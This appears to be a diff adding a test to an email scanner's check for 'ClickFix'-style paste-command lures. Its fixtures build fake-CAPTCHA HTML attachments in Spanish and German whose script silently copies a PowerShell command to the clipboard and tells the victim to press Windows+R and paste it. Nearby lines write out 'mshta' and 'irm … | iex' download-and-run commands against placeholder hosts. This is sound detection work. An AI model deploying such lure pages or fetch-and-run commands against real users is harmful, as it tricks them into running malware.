@@ -4,6 +4,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { pasteCommandCheck } from '../../../src/pipeline/checks/paste-command.ts';
+import { mailWithDocuments } from '../../helpers/pdf.ts';
 import { hitLines, plainTextMail } from './util.ts';
 
 const run = hitLines(pasteCommandCheck);
@@ -33,5 +34,21 @@ describe('commands to paste', () => {
     assert.deepEqual(await run(mail('In PowerShell run: Get-Mailbox -Identity carol | Format-List')), []);
     assert.deepEqual(await run(mail('Our script log: powershell -c "irm https://repo.example/tool.ps1 | iex" ran at 03:00 on the build server.')), []);
     assert.deepEqual(await run(mail('Beware of "ClickFix": fake pages ask you to press Windows + R and paste a command. Never do it.')), []);
+  });
+
+  it('the fake CAPTCHA: an attached page whose script copies a command to the clipboard, and the steps to paste it (the sixteenth held-out pair)', async () => {
+    const page = (script: string, steps: string): Buffer => Buffer.from(`<html><body><p>Confirme que no es un robot.</p><input type="checkbox" onclick="go()"> No soy un robot
+<div style="display:none" id="s"><ol>${steps}</ol></div><script>function go(){ ${script} }</script></body></html>`);
+    const head = 'From: DocuFirma <no-reply@docufirma.example>\r\nTo: carol@example.com\r\nSubject: Documento pendiente de firma\r\n';
+    const steps = '<li>Pulse la tecla <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Pulse <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pulse <kbd>Intro</kbd></li>';
+    // the command need not download anything readable: it is never shown, only pasted
+    const lure = page('navigator.clipboard.writeText("powershell -w h -nop -c \\"Write-Output test\\" # Verificacion ID: 7741");', steps);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Abra el documento en su navegador.', ['Contrato.html', lure])), [
+      'PASTE_COMMAND_LURE: a page\'s script puts a command on the clipboard ("powershell"…) in the attached page Contrato.html, to paste at "tecla windows + r"',
+    ]);
+    assert.equal((await run(mailWithDocuments(head, 'Anbei.', ['Rechnung.htm', page('var t=document.getElementById("c"); t.select(); document.execCommand("copy"); // mshta https://x.example/v.hta', steps.replace('Pulse la tecla', 'Drücken Sie die'))]))).length, 1, 'execCommand copy, mshta');
+    // a page that copies a tracking number, or names PowerShell without copying it, is no lure
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Sendung.html', page('navigator.clipboard.writeText("JJD0001234567");', '<li>Ctrl + V in das Suchfeld</li>')])), []);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Anleitung.html', page('/* powershell */', steps)])), []);
   });
 });
